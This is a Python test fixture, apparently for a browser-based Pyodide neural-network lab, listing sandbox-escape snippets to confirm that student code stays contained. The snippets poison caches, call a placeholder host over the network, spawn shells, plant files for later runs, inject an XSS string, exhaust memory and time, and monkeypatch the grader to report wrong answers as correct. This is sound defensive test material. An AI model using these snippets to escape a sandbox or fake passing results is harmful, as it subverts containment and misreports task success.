"""What a class in Layer code may try: a table of snippets, each with what it was after.

Each is put into __init__ of the class of the notes. What it reaches it leaves where the tests look: an entry in the
site's caches, databases and files, a message in a channel, a request to a host, a line on the paper that begins with
REACHED. The first twenty are part of the ordinary tests; `build.py test --wide` tries all of them in other browsers too.
"""

HOST = "HOST"  # put in its place: the address of a server that counts who asks
PAGE = "PAGE"  # … and of the site

# name -> (what it is after, lines of Python)
SNIPPETS = {
    # ---- what is kept of the site
    "caches": ("kept site", """import js
c = js.caches
print("REACHED the caches")"""),
    "poison": ("kept site", """import js, asyncio
async def poison():
    cache = await js.caches.open("nncore-lab")
    for request in await cache.keys():
        await cache.put(request, js.Response.new("<script>document.title = 'poisoned'</script>"))
asyncio.ensure_future(poison())
js.caches.open("nncore-lab")
print("REACHED the kept site")"""),
    "indexedDB": ("databases", """import js
js.indexedDB.open("left behind")
print("REACHED a database")"""),
    "files": ("the origin's files", """import js
js.navigator.storage.getDirectory()
print("REACHED the files")"""),
    "localStorage": ("storage", """import js
js.localStorage.setItem("left", "behind")
print("REACHED the storage")"""),
    "cookies": ("cookies", """import js
js.cookieStore.set("left", "behind")
print("REACHED the cookies")"""),
    # ---- others of the same origin
    "BroadcastChannel": ("messages", """import js
js.BroadcastChannel.new("lab").postMessage("out")
print("REACHED a channel")"""),
    "SharedWorker": ("further workers", """import js
js.SharedWorker.new("PAGEexhibits/code_editor.js")
print("REACHED a shared worker")"""),
    "worker by address": ("further workers", """import js
js.Worker.new("PAGEexhibits/box/boot.js")
print("REACHED a worker")"""),
    "worker of a blob": ("further workers", """import js
url = js.URL.createObjectURL(js.Blob.new(js.Array.of("fetch('HOSTnested')")))
js.Worker.new(url)
print("REACHED a nested worker")"""),
    # ---- the network
    "fetch": ("network", """import js
js.fetch("HOSTfetch")
print("REACHED fetch")"""),
    "XMLHttpRequest": ("network", """import js
x = js.XMLHttpRequest.new()
x.open("GET", "HOSTxhr", False)
x.send()
print("REACHED XMLHttpRequest")"""),
    "WebSocket": ("network", """import js
js.WebSocket.new("HOSTsocket".replace("http", "ws"))
print("REACHED a socket")"""),
    "importScripts": ("network", """import js
js.importScripts("HOSTscript.js")
print("REACHED importScripts")"""),
    "urllib": ("network", """import urllib.request
urllib.request.urlopen("HOSTurllib").read()
print("REACHED urllib")"""),
    "pyfetch": ("network", """import asyncio
from pyodide.http import pyfetch, open_url
asyncio.ensure_future(pyfetch("HOSTpyfetch"))
open_url("HOSTopen_url")
print("REACHED open_url")"""),
    "pyodide_js": ("network", """import pyodide_js
pyodide_js.loadPackage("HOSTpackage-1.0-py3-none-any.whl")
pyodide_js._api.config.jsglobals.fetch("HOSTpyodide_js")
print("REACHED pyodide_js")"""),
    # ---- the page and its run
    "close": ("the run", """import js
js.close()
print("REACHED close")"""),
    "postMessage": ("the page", """import js
js.postMessage("x")
print("REACHED postMessage")"""),
    "sync": ("the lab's run", """from pyscript import sync
sync.play()
print("REACHED the lab")"""),
    # ---- twenty so far; the same again by other ways
    "onmessage": ("the page", """import js
js.self.onmessage = None
js.self.postMessage("x")
print("REACHED self")"""),
    "document": ("the page", """import js
js.document.title = "taken"
print("REACHED the document")"""),
    "polyscript": ("the page", """import polyscript
polyscript.xworker.sync
print("REACHED polyscript")"""),
    "run_js": ("scripts", """from pyodide.code import run_js
run_js("fetch('HOSTrun_js')")
print("REACHED run_js")"""),
    "Function": ("scripts", """import pyodide_js
make = pyodide_js.loadPackage.constructor
make.new("fetch('HOSTFunction')")()
print("REACHED Function")"""),
    "constructor of a constructor": ("scripts", """import pyodide_js
make = pyodide_js._api.constructor.constructor
make("return self")().fetch("HOSTconstructor")
print("REACHED a constructor")"""),
    "module": ("network", """import pyodide_js
pyodide_js._module.FS.createLazyFile("/", "lazy", "HOSTlazy", True, False)
open("/lazy", "rb").read()
print("REACHED a lazy file")"""),
    "globals of the module": ("the scope", """import pyodide_js
scope = pyodide_js._module.FS.open.constructor.prototype.constructor("return this")()
print("REACHED", scope)"""),
    "emscripten": ("scripts", """import ctypes
run = ctypes.CDLL(None).emscripten_run_script
run(b"fetch('HOSTemscripten')")
print("REACHED emscripten_run_script")"""),
    "emscripten wget": ("network", """import ctypes
ctypes.CDLL(None).emscripten_wget(b"HOSTwget", b"/got")
print("REACHED emscripten_wget")"""),
    "sockets": ("network", """import socket
s = socket.create_connection(("127.0.0.1", int("HOST".split(":")[2].split("/")[0])), timeout=1)
s.send(b"GET /socket HTTP/1.0\\r\\n\\r\\n")
print("REACHED a socket")"""),
    "processes": ("the machine", """import os
os.system("touch left-behind")
os.execv("/bin/sh", ["sh"])
print("REACHED a process")"""),
    "subprocess": ("the machine", """import subprocess
print("REACHED", subprocess.run(["ls"], capture_output=True).stdout)"""),
    "threads": ("further threads", """import threading
threading.Thread(target=print).start()
print("REACHED a thread")"""),
    "micropip": ("network", """import micropip
print("REACHED micropip")"""),
    "import from an address": ("network", """import sys, zipimport
sys.path.insert(0, "HOSTpackages")
import not_there
print("REACHED an address")"""),
    "a package's file": ("the next run", """import numpy, os
path = os.path.join(os.path.dirname(numpy.__file__), "left_behind.py")
open(path, "w").write("here = 1")"""),
    "a file at home": ("the next run", """open("/home/pyodide/left_behind.txt", "w").write("here")"""),
    # ---- the verdict
    "the comparison": ("the verdict", """import sys
for module in list(sys.modules.values()):
    for name in ("_compared", "compared", "of_report"):
        if hasattr(module, name):
            setattr(module, name, lambda *_: {"equal": 6, "size": 6})
            print("REACHED the comparison")
self.weights = self.weights * 5"""),
    "json": ("the verdict", """import json
dumps = json.dumps
json.dumps = lambda *a, **b: dumps({"arrays": [], "error": None, "unfit": "", "printed": "", "cut": False, "equal": True})
self.weights = self.weights * 5"""),
    "json, markup": ("the page", """import json
json.dumps = lambda *a, **b: '{"arrays": [["<img src=x onerror=alert(1)>", [2, 3]]], "error": null, "unfit": "", "printed": ""}'"""),
    "json, deep": ("the page", """import json
json.dumps = lambda *a, **b: "[" * 100000"""),
    "json, no text": ("the page", """import json
json.dumps = lambda *a, **b: {"toString": 1}"""),
    "numpy": ("the verdict", """np.array = lambda *a, **b: np.zeros((2, 3))
np.ndarray.tobytes
self.weights = np.matrix(self.weights * 5)"""),
    "numpy's randomness": ("the verdict of later runs", """np.random.seed = lambda *_: None
np.random.randn = lambda *s: np.ones(s)"""),
    "nncore": ("the verdict of later runs", """import nncore
nncore.Dense.forward = lambda self, x: x * 0
nncore.layers.Dense = None"""),
    "builtins": ("the verdict of later runs", """import builtins
builtins.isinstance = lambda *_: True
builtins.len = lambda *_: 0"""),
    "a type's equality": ("the verdict", """class Right(np.ndarray):
    def __eq__(self, other): return np.ones(self.shape, bool)
    def astype(self, *a, **b): return self
self.weights = (self.weights * 5).view(Right)"""),
    "frames": ("the verdict", """import sys
frame = sys._getframe()
while frame:
    frame.f_locals.get("found", {}).update(weights=np.zeros((2, 3)), output=np.zeros((32, 3)))
    frame = frame.f_back"""),
    "import hooks": ("later runs", """import sys
class Hook:
    def find_spec(self, name, path=None, target=None):
        print("REACHED by", name) if name == "layer_compare" else None
sys.meta_path.insert(0, Hook())"""),
    "gc": ("the channel", """import gc
found = [o for o in gc.get_objects() if type(o).__name__ == "JsProxy" and hasattr(o, "postMessage")]
if found: print("REACHED", found)"""),
    "references": ("the scope", """import js, pyodide_js
for name in dir(js) + dir(pyodide_js):
    if name in ("caches", "indexedDB", "fetch", "Worker", "importScripts", "postMessage", "close"):
        print("REACHED", name)"""),
    "prototypes": ("the scope", """import pyodide_js
place = pyodide_js
while place is not None:
    for name in ("caches", "fetch", "Worker"):
        if hasattr(place, name): print("REACHED", name)
    place = getattr(place, "__proto__", None)"""),
    # ---- what is left running
    "timers": ("later time", """import asyncio
async def on():
    while True: await asyncio.sleep(0)
asyncio.ensure_future(on())"""),
    "a callback": ("later time", """import asyncio
def again(): asyncio.get_event_loop().call_later(0, again)
again()"""),
    "a destructor": ("later time", """class Last:
    def __del__(self):
        while True: pass
self.last = Last()"""),
    "atexit": ("later time", """import atexit
atexit.register(lambda: print("REACHED the end"))"""),
    # ---- what stops it
    "a loop without end": ("time", """while True: pass"""),
    "a loop that holds on": ("time", """while True:
    try:
        while True: pass
    except BaseException: pass"""),
    "the interrupt taken away": ("time", """import pyodide_js
pyodide_js.setInterruptBuffer(None)
while True: pass"""),
    "a long product": ("time", """a = np.ones((6000, 6000))
for _ in range(1000): a = a @ a"""),
    "memory": ("memory", """self.kept = [np.ones((1 << 24,)) for _ in range(40)]"""),
    "memory, bytes": ("memory", """self.kept = bytearray(1 << 31)"""),
    "memory, doubling": ("memory", """self.kept = "x"
while True: self.kept += self.kept"""),
    "memory, in the browser": ("memory", """import pyodide_js
buffer = pyodide_js._module.HEAP8.buffer.constructor
self.kept = [buffer.new(1 << 28) for _ in range(4)]"""),
    "deep": ("the stack", """def deeper(): return deeper()
deeper()"""),
    "deep in C": ("the stack", """a = []
for _ in range(200000): a = [a]
repr(a)"""),
    "exit": ("the run", """import os
os._exit(3)"""),
    "abort": ("the run", """import os
os.abort()"""),
    "memory that is not ours": ("the run", """import ctypes
ctypes.string_at(0xFFFFFFF0, 100)"""),
    "SystemExit": ("the run", """raise SystemExit"""),
    "a flood of text": ("the page", """print("<b>bold</b>" * 1000000)"""),
}
FIRST_TWENTY = list(SNIPPETS)[:20]


def source(lines: str, host: str, page: str) -> str:
    """The class of the notes with the snippet at the end of __init__."""
    body = "\n".join("    " + line for line in lines.replace("HOST", host).replace("PAGE", page).split("\n"))
    return ("class Layer_Dense:\n  def __init__(self, n_inputs, n_neurons):\n"
            "    self.weights = np.random.randn(n_inputs, n_neurons) * 0.01\n    self.biases = np.zeros((1, n_neurons))\n"
            f"{body}\n  def forward(self, inputs):\n    return inputs @ self.weights + self.biases\n")
